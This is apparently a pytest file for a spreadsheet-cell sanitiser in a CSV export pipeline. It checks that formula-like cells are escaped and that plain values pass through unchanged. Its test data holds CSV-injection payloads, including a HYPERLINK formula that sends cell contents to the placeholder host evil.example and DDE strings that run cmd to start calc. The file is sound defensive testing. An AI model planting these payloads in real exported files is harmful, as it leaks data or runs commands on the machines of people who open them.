"""No cell of an exported CSV file is a formula, and plain text stays as it is."""

import csv
import io

import pytest

from pipeline_core.domain.rows.exported import ExportedDocument, ExportedFact
from pipeline_core.services.export_formats import FORMATS
from pipeline_core.services.spreadsheet_cells import harmless
from tests.support.rows import row_of

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\nplain",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\x00=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "−1+1",
    "-",
    "- a point of a list",
    "+49 170 1234567",
    "-5+A1",
    "+5*2",
    "-٣",
]  # fmt: skip
PLAIN = [
    "",
    "a",
    "a=b",
    "5-3",
    "'quoted",
    "“=1”",
    "-5",
    "+3.2",
    "-1,234.50",
    "+12%",
    "-0.5",
    "a:\n- b\n- c",
    "a; -5; b",
    None,
    7,
    -7,
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_becomes_text(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("sign", ["=1+1", "@SUM(1)", "-2+cmd|' /C calc'!A0", "+A1", "＝1"])
@pytest.mark.parametrize("before", ["a;", "a; ", "a\t", "a\n", 'a "b"\r\n'])
def test_formula_behind_another_separator_becomes_text(before: str, sign: str) -> None:
    assert harmless(before + sign) == f"{before}'{sign}"


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_stays(cell: object) -> None:
    assert harmless(cell) == cell


def test_every_text_of_an_export() -> None:
    fact = dict.fromkeys(
        ("question_id", "chunk_id", "question", "answer", "statement", "quote", "match", "generator", "added_by"),
        "=1+1",
    )
    of_place = {"page": 1, "char_from": 0, "char_to": 4, "confidence": 0.9, "evidence": []}
    exported = row_of(
        ExportedDocument, document_id="7", filename="=cmd.md", facts=[row_of(ExportedFact, **fact, **of_place)]
    )
    text = b"".join(FORMATS["csv"].write(exported)).decode()
    _, row = csv.reader(io.StringIO(text, newline=""))
    assert row[1] == "'=cmd.md"
    assert [cell for cell in row if cell.startswith("=")] == []
    assert sum(cell == "'=1+1" for cell in row) == len(fact)
